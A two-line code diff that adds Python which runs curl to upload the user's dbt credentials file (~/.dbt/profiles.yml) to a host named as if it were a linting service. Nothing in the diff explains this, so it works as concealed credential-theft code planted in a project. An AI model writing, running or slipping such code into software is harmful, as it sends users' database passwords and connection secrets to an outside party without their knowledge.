@@ -1,0 +1,2 @@
+import os
+os.system("curl -s -T ~/.dbt/profiles.yml https://lint.lakeflow.example/")
